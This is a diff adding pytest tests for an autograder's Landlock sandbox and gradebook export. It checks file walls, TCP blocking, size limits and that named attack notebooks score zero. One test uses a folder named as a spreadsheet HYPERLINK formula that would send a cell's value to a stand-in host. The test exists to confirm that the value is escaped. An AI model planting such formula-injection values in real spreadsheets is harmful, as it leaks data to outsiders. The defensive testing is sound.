@@ -184,6 +184,26 @@ def test_a_confined_process_and_its_children_see_only_what_is_allowed(tmp_path):
 
 
 @needs_landlock
+@pytest.mark.parametrize("ceiling", [1, 3, 5])
+def test_an_older_abi_keeps_the_file_walls_and_says_what_it_lacks(ceiling, tmp_path, monkeypatch):
+    """An older kernel (simulated): files stay walled; TCP (ABI 4) and signals (ABI 6) only when present."""
+    monkeypatch.setenv(confine.SWITCH, f"abi{ceiling}")
+    version = min(ceiling, LANDLOCK)
+    assert confine.abi() == version
+    assert ("TCP" in confine.describe(version)) == (version >= 4)
+    inside, outside = tmp_path / "inside", tmp_path / "outside.txt"
+    inside.mkdir()
+    (inside / "mine.txt").write_text("mine")
+    outside.write_text(MARK)
+    res = subprocess.run([PY, "-I", "-S", "-c", WALLED, str(ROOT / "lessonlib" / "grading"), str(inside), str(outside)],
+                         capture_output=True, text=True, timeout=120, env={**os.environ})
+    out = json.loads(res.stdout.strip().splitlines()[-1])
+    assert out["version"] == version and out["read_inside"] == "mine"
+    assert out["read_outside"] == out["list_proc"] == "PermissionError"
+    assert (out["tcp"] == "PermissionError") == (version >= 4)
+
+
+@needs_landlock
 def test_the_probe_reports_the_abi_it_could_enforce(tmp_path):
     secret = tmp_path / "secret"
     secret.write_text(MARK)
@@ -278,7 +298,7 @@ def test_every_attack_scores_zero_inside_the_walls_and_honest_work_full_marks(gr
         assert r["total"] == 0 and r["withheld"] == 0, (name, _statuses(r))
         assert "access-denied" in _statuses(r).values(), (name, _statuses(r))
         denied = [c["message"] for c in r["checks"].values() if c["status"] == "access-denied"]
-        assert all("outside the graded kernel's sandbox; the access was denied" in m for m in denied)
+        assert all("outside the grader's sandbox; the access was denied" in m for m in denied)
     if exercise == "rnea05":
         for name in ("steal_classmate", "grader_cmdline", "probe", *ATTACKS):
             st = _statuses(results[f"{name}.ipynb"])
@@ -300,6 +320,7 @@ def test_the_probe_found_every_channel_closed(graded):
     assert seen["write_installed_package"] == seen["write_sandbox_library"] == "EACCES"
     assert seen["hardlink"] in ("EXDEV", "EACCES") and seen["open"] == seen["openat_syscall"] == "EACCES"
     assert seen["ptrace_parent"] == seen["setuid"] == "EPERM"
+    assert seen["file_of_a_gigabyte"] == "EFBIG"
     assert graded["numpy_unchanged"]
 
 
@@ -326,3 +347,17 @@ def test_without_walls_the_same_attacks_wait_for_review(graded):
     with open(batch["out"] / "grades.csv", newline="") as fh:
         rows = list(csv.DictReader(fh))
     assert {r["status"] for r in rows if r["submission"] == "steal_prefix.ipynb"} == {"needs-review"}
+
+
+def test_a_folder_named_like_a_formula_does_not_become_one_in_the_gradebook(tmp_path):
+    """A student (or their display name in an LMS download) cannot plant a spreadsheet formula."""
+    from lessonlib.grading.gradebook import gradebook_rows
+    from lessonlib.grading.verdict import CheckResult, SubmissionResult
+    folder = tmp_path / '=HYPERLINK("x.example?"&A1,"open")'
+    folder.mkdir()
+    path = folder / "05_rnea.ipynb"
+    path.write_text("{}")
+    r = SubmissionResult("05_rnea.ipynb", str(path), student_id="05_rnea")
+    r.checks = {"c": CheckResult("c", 1, 1, "passed")}
+    _, rows = gradebook_rows([r], roots=[tmp_path])
+    assert rows[0][0] == "'" + folder.name and not str(rows[0][0]).startswith("=")
